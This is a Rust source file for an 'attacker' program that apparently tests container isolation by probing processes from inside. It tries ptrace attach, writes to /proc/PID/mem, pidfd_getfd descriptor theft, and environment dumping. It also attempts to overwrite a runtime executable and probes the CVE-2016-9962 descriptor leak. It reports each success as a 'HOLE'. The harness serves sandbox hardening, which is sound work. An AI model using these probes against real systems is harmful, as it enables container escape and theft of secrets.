//! A hostile process of a container: tries everything on every process that was not there when it began.
//!
//! `ready` says that it is who it wants to be, `looking` that it knows who was there before; it goes on until there
//! is a file `stop`. Each success is a line `HOLE`, and the last line says how much was tried.

mod kernel;

use std::collections::{BTreeMap, BTreeSet};
use std::fs::{self, File, OpenOptions};
use std::os::fd::AsRawFd;
use std::os::unix::fs::{FileExt, OpenOptionsExt};
use std::path::Path;
use std::time::Duration;

use kernel::{call, errno, name};

const USAGE: &str = "usage: attacker FOLDER (root | user | keep=UID | hidden)...
       attacker reach COMM
       attacker hold COMM FILE
       attacker try COMM
       attacker gate FOLDER COMM
       attacker kill FOLDER COMM
       attacker descriptors FOLDER
       attacker stop COMM...";

const PTRACE_DETACH: usize = 17;
const PTRACE_ATTACH: usize = 16;
const PTRACE_SEIZE: usize = 0x4206;
const PR_SET_KEEPCAPS: usize = 8;
const PR_CAPBSET_DROP: usize = 24;
const CAP_SYS_PTRACE: usize = 19;
const SIGKILL: usize = 9;
const STOP: usize = 19;
const CONTINUE: usize = 18;
const NONBLOCK: i32 = 0o4000;

fn main() {
    let arguments: Vec<String> = std::env::args().skip(1).collect();
    let words: Vec<&str> = arguments.iter().map(String::as_str).collect();
    match words.as_slice() {
        ["as", folder, identity] => attack(Path::new(folder), identity),
        ["reach", comm] => reach(comm),
        ["hold", comm, file] => hold(comm, Path::new(file)),
        ["try", comm] => try_once(comm),
        ["meddle", comm] => meddle(comm),
        ["gate", folder, comm] => gate(Path::new(folder), comm),
        ["descriptors", folder] => descriptors(Path::new(folder)),
        ["stop", comms @ ..] => stop(comms),
        ["kill", folder, comm] => kill(Path::new(folder), comm),
        [folder, identities @ ..] if !identities.is_empty() => start(folder, identities),
        _ => eprintln!("{USAGE}"),
    }
}

/// One process for each identity.
fn start(folder: &str, identities: &[&str]) {
    let start = |identity: &&str| {
        let mut command = std::process::Command::new("/proc/self/exe");
        command.args(["as", folder, identity]).spawn().expect("this program can start itself")
    };
    let children: Vec<_> = identities.iter().map(start).collect();
    for mut child in children {
        child.wait().expect("an own child");
    }
}

fn attack(folder: &Path, identity: &str) {
    // What a container would hide: the first thread shows nothing, another holds the power to trace.
    if identity == "hidden" {
        let folder = folder.to_owned();
        let holder = std::thread::spawn(move || hammer(&folder, "hidden"));
        drop_everything();
        holder.join().expect("the other thread");
        return;
    }
    become_identity(identity);
    hammer(folder, identity);
}

fn hammer(folder: &Path, identity: &str) {
    println!("ready {identity}");
    wait_for(&folder.join("go"));
    let before = pids();
    println!("looking {identity}");
    let (mut tried, mut seen, mut holes) = (0_usize, BTreeMap::new(), BTreeSet::new());
    while !folder.join("stop").exists() {
        for pid in pids().difference(&before) {
            let Ok(comm) = fs::read_to_string(format!("/proc/{pid}/comm")) else { continue };
            let comm = comm.trim().to_owned();
            for (probe, result) in probes(*pid) {
                tried += 1;
                if result.is_ok() && holes.insert((comm.clone(), probe.clone())) {
                    println!("HOLE {identity} {pid} {comm} {probe}{}", held(*pid));
                }
            }
            let times = seen.entry(comm.clone()).or_insert(0);
            *times += 1;
            if *times == 1 {
                println!("met {identity} {comm}.");
            }
        }
    }
    println!("done {identity} tried={tried} seen={seen:?}");
}

fn held(pid: u32) -> String {
    let status = fs::read_to_string(format!("/proc/{pid}/status")).unwrap_or_default();
    status.lines().find(|line| line.starts_with("CapPrm")).map_or(String::new(), |l| format!(" {l}"))
}

fn pids() -> BTreeSet<u32> {
    let entries = fs::read_dir("/proc").into_iter().flatten().flatten();
    entries.filter_map(|entry| entry.file_name().to_str()?.parse().ok()).collect()
}

fn wait_for(file: &Path) {
    while !file.exists() {
        std::thread::sleep(Duration::from_millis(2));
    }
}

/// Every way into a process, with what the kernel said.
fn probes(pid: u32) -> Vec<(String, Result<usize, i32>)> {
    let mut found = Vec::new();
    for file in ["root", "cwd", "exe", "fd/0", "fd/1", "fd/2", "fd/3", "fd/4", "ns/net", "ns/mnt", "ns/pid"] {
        let path = format!("/proc/{pid}/{file}");
        // A pipe whose writer has just ended would be waited for.
        let opened = OpenOptions::new().read(true).custom_flags(NONBLOCK).open(&path);
        let opened = opened.map(|_| 0).map_err(|error| errno(&error));
        found.push((format!("open {file}"), opened));
        let read = fs::read_link(&path).map(|_| 0).map_err(|error| errno(&error));
        found.push((format!("readlink {file}"), read));
    }
    for file in ["maps", "mem", "environ", "auxv"] {
        found.push((format!("read {file}"), read_memory(&format!("/proc/{pid}/{file}"))));
    }
    let written = OpenOptions::new().write(true).open(format!("/proc/{pid}/mem"));
    let written = written.map_err(|error| errno(&error)).and_then(|file| any(file.write_at(b"x", 0)));
    found.push(("write mem".into(), written));
    let p = pid as usize;
    for (request, name) in [(PTRACE_SEIZE, "seize"), (PTRACE_ATTACH, "attach")] {
        let traced = call(kernel::PTRACE, &[request, p, 0, 0]);
        if traced.is_ok() {
            let_go(p);
        }
        found.push((name.into(), traced));
    }
    found.push(("pidfd_getfd".into(), getfd(pid)));
    let (local, remote) = ([0_u8; 8], [0x40_0000_usize, 8]);
    let here = [local.as_ptr() as usize, 8];
    let vectors = [p, here.as_ptr() as usize, 1, remote.as_ptr() as usize, 1, 0];
    // An address that is not mapped is the answer of a kernel that let it try.
    let read = call(kernel::PROCESS_VM_READV, &vectors);
    found.push(("process_vm_readv".into(), if read == Err(14) { Ok(0) } else { read }));
    let own = std::process::id() as usize;
    found.push(("kcmp".into(), call(kernel::KCMP, &[own, p, 1, 0, 0])));
    found
}

/// A process that is traced can be left alone only once it has stopped.
fn let_go(pid: usize) {
    const PTRACE_INTERRUPT: usize = 0x4207;
    const ALL_KINDS: usize = 0x4000_0000;
    // Of one that was attached to this is refused: it stops by itself.
    let _ = call(kernel::PTRACE, &[PTRACE_INTERRUPT, pid, 0, 0]);
    let _ = call(kernel::WAIT4, &[pid, 0, ALL_KINDS, 0]);
    let _ = call(kernel::PTRACE, &[PTRACE_DETACH, pid, 0, 0]);
    // What attaches sends a SIGSTOP, and an execve may stop the process before that signal does: then the signal is
    // still to come, and would stop a process for ever that nothing traces any more.
    signal(pid as u32, CONTINUE);
}

/// Of a process that is just ending these open, and there is nothing behind them.
fn read_memory(path: &str) -> Result<usize, i32> {
    let file = File::open(path).map_err(|error| errno(&error))?;
    any(file.read_at(&mut [0; 64], 0))
}

/// What reaches memory but finds no page there is as good as bytes.
fn any(result: std::io::Result<usize>) -> Result<usize, i32> {
    const NO_MEMORY_ANY_MORE: Result<usize, i32> = Err(3);
    match result {
        Ok(0) => NO_MEMORY_ANY_MORE,
        Err(error) if errno(&error) == 5 => Ok(1),
        other => other.map_err(|error| errno(&error)),
    }
}

fn getfd(pid: u32) -> Result<usize, i32> {
    let pidfd = call(kernel::PIDFD_OPEN, &[pid as usize, 0])?;
    let stolen = call(kernel::PIDFD_GETFD, &[pidfd, 1, 0]);
    let close = |fd: usize| drop(fs::read_link(format!("/proc/self/fd/{fd}")).map(|_| take(fd)));
    close(pidfd);
    stolen.inspect(|fd| close(*fd))
}

fn take(fd: usize) {
    use std::os::fd::{FromRawFd, OwnedFd};
    // SAFETY: the kernel just gave this number to the caller, and nobody else owns it.
    drop(unsafe { OwnedFd::from_raw_fd(fd as i32) });
}

/// `root` stays what it is; `user` has nothing; `keep=UID` has the tool's ids and all that it held.
fn become_identity(identity: &str) {
    let (id, keep) = match identity.strip_prefix("keep=") {
        Some(id) => (id.parse().expect("a number"), true),
        None if identity == "user" => (1000, false),
        None => return,
    };
    call(kernel::PRCTL, &[PR_SET_KEEPCAPS, usize::from(keep)]).expect("keepcaps");
    let held = permitted();
    call(kernel::SETGROUPS, &[0, 0]).expect("setgroups");
    call(kernel::SETRESGID, &[id; 3]).expect("setresgid");
    call(kernel::SETRESUID, &[id; 3]).expect("setresuid");
    if keep {
        capset(held);
    }
}

fn permitted() -> u64 {
    let status = fs::read_to_string("/proc/thread-self/status").expect("an own status");
    let line = status.lines().find_map(|line| line.strip_prefix("CapPrm:")).expect("CapPrm");
    u64::from_str_radix(line.trim(), 16).expect("a mask")
}

/// Effective and permitted `held`, inheritable nothing.
fn capset(held: u64) {
    let header = [0x2008_0522_u32, 0];
    let (low, high) = (held as u32, (held >> 32) as u32);
    let data = [low, low, 0, high, high, 0];
    call(kernel::CAPSET, &[header.as_ptr() as usize, data.as_ptr() as usize]).expect("capset");
}

/// Of this thread: the power to trace, out of every set there is.
fn drop_everything() {
    call(kernel::PRCTL, &[PR_CAPBSET_DROP, CAP_SYS_PTRACE]).expect("the bounding set");
    capset(permitted() & !(1 << CAP_SYS_PTRACE));
}

/// A process of that name which is not a zombie: what this one has stopped may die without a parent that waits.
fn find(comm: &str) -> u32 {
    loop {
        let is_it = |pid: &u32| {
            let status = fs::read_to_string(format!("/proc/{pid}/status")).unwrap_or_default();
            status.starts_with(&format!("Name:\t{comm}\n")) && !status.contains("State:\tZ")
        };
        if let Some(pid) = pids().into_iter().find(is_it) {
            return pid;
        }
        std::thread::sleep(Duration::from_millis(2));
    }
}

/// Everything, once, on the first process of that name.
fn try_once(comm: &str) {
    let pid = find(comm);
    for (probe, result) in probes(pid) {
        println!("tried {probe}");
        if result.is_ok() {
            println!("HOLE {comm} {probe}{}", held(pid));
        }
    }
}

/// What can be done to a process of one's own user without a look into it, each with the kernel's answer; its end last.
fn meddle(comm: &str) {
    const CORE: usize = 4;
    let pid = find(comm);
    let p = pid as usize;
    let say = |what: &str, result: Result<usize, i32>| println!("{what} {}", kernel::outcome(result));
    let unlimited = [u64::MAX; 2];
    say("raise-core", call(kernel::PRLIMIT, &[p, CORE, unlimited.as_ptr() as usize, 0]));
    let nodes = [1_u64];
    let at = nodes.as_ptr() as usize;
    say("migrate-pages", call(kernel::MIGRATE_PAGES, &[p, 64, at, at]));
    let (page, mut status) = ([0x40_0000_usize], [0_i32]);
    let pages = page.as_ptr() as usize;
    say("move-pages", call(kernel::MOVE_PAGES, &[p, 1, pages, 0, status.as_mut_ptr() as usize, 0]));
    let write = |file: &str, text: &str| {
        let path = format!("/proc/{pid}/{file}");
        fs::write(path, text).map(|()| 0).map_err(|error| errno(&error))
    };
    say("write-comm", write("comm", "other"));
    say("less-likely-killed", write("oom_score_adj", "-1000"));
    say("signal", call(kernel::KILL, &[p, SIGKILL]));
}

/// What is behind `/proc/PID/root` of a session's tool.
fn reach(comm: &str) {
    let pid = find(comm);
    let mounts = fs::read_to_string(format!("/proc/{pid}/mountinfo")).expect("its mounts");
    for line in mounts.lines() {
        println!("mount {line}");
    }
    let root = format!("/proc/{pid}/root");
    for entry in fs::read_dir(&root).expect("its root").flatten() {
        println!("root {}", entry.file_name().to_string_lossy());
    }
    for fd in fs::read_dir(format!("/proc/{pid}/fd")).expect("its descriptors").flatten() {
        println!("fd {}", fd.file_name().to_string_lossy());
    }
    let environment = fs::read(format!("/proc/{pid}/environ")).expect("its environment");
    println!("environ {}", String::from_utf8_lossy(&environment).replace('\0', " "));
}

/// CVE-2016-9962: whatever a process has open that has just come in. `fd COMM KIND LINK` for each that can be followed.
fn descriptors(folder: &Path) {
    println!("ready descriptors");
    let (before, mut seen, mut tried) = (pids(), BTreeSet::new(), 0_usize);
    println!("looking descriptors");
    while !folder.join("stop").exists() {
        for pid in pids().difference(&before) {
            let comm = fs::read_to_string(format!("/proc/{pid}/comm")).unwrap_or_default();
            let comm = comm.trim();
            // By number as well: a table that cannot be listed may be guessed.
            for fd in 0..32 {
                tried += 1;
                let path = format!("/proc/{pid}/fd/{fd}");
                let Ok(kind) = fs::metadata(&path) else { continue };
                let kind = if kind.is_dir() { "directory" } else { "file" };
                // Closed meanwhile: it led nowhere.
                let Ok(link) = fs::read_link(&path) else { continue };
                let link = link.to_string_lossy();
                // Of pipes and the like the number does not matter.
                let what = link.split(':').next().unwrap_or_default();
                if seen.insert(format!("{comm} {what}")) {
                    println!("fd {comm} {kind} {link}");
                }
            }
            if seen.insert(format!("met {comm}")) {
                println!("met {comm}.");
            }
        }
    }
    println!("done descriptors tried={tried}");
}

/// Holds the programs of a process, and tries to write to them until `file` appears and the process is gone.
fn hold(comm: &str, file: &Path) {
    let pid = find(comm);
    let held = File::open(format!("/proc/{pid}/exe")).expect("its program");
    println!("held {comm}");
    wait_for(file);
    while Path::new(&format!("/proc/{pid}")).exists() {
        std::thread::sleep(Duration::from_millis(2));
    }
    let again = OpenOptions::new().write(true).open(format!("/proc/self/fd/{}", held.as_raw_fd()));
    println!("rewrite {comm} {}", again.map_or_else(|e| name(errno(&e)), |_| "done".to_owned()));
}

/// Ends every process of that name as soon as it is there.
fn kill(folder: &Path, comm: &str) {
    println!("ready kill");
    let mut killed = 0;
    while !folder.join("stop").exists() {
        for pid in pids() {
            let name = fs::read_to_string(format!("/proc/{pid}/comm")).unwrap_or_default();
            let hit = name.trim() == comm && call(kernel::KILL, &[pid as usize, SIGKILL]).is_ok();
            killed += usize::from(hit);
        }
    }
    println!("done kill killed={killed}");
}

/// Stops a process of each name, for good.
fn stop(comms: &[&str]) {
    for comm in comms {
        signal(find(comm), STOP);
        println!("stopped {comm}");
    }
}

/// Lets a supervisor go on in small steps until it has forked its tool-to-be, and has that one not wait for it.
fn gate(folder: &Path, supervisor: &str) {
    const CONTINUE: usize = 18;
    println!("ready gate");
    let (mut stopped, mut done) = (0, BTreeSet::new());
    while !folder.join("stop").exists() {
        for pid in pids() {
            let comm = fs::read_to_string(format!("/proc/{pid}/comm")).unwrap_or_default();
            if comm.trim() != supervisor || !done.insert(pid) {
                continue;
            }
            loop {
                signal(pid, STOP);
                let Ok(children) = fs::read_to_string(format!("/proc/{pid}/task/{pid}/children"))
                else {
                    break;
                };
                if let Some(child) = children.split_whitespace().find_map(|pid| pid.parse().ok()) {
                    stopped += 1;
                    done.insert(child);
                    judge(child, pid, supervisor);
                    break;
                }
                signal(pid, CONTINUE);
            }
            signal(pid, CONTINUE);
        }
    }
    println!("done gate stopped={stopped}");
}

fn signal(pid: u32, number: usize) {
    let _ = call(kernel::KILL, &[pid as usize, number]);
}

/// Whether `child` became a tool while its supervisor, stopped, still holds something.
fn judge(child: u32, parent: u32, supervisor: &str) {
    // What the start-up code of our processes catches; a second one of the same kind would end it.
    for caught in [11, 7] {
        signal(child, caught);
        std::thread::sleep(Duration::from_micros(500));
    }
    for _ in 0..20 {
        let comm = fs::read_to_string(format!("/proc/{child}/comm")).unwrap_or_default();
        let held = held(parent);
        if !comm.is_empty() && comm.trim() != supervisor && !held.ends_with("0000000000000000") {
            println!("HOLE gate {} runs beside a supervisor that holds{held}", comm.trim());
            return;
        }
        std::thread::sleep(Duration::from_micros(200));
    }
}
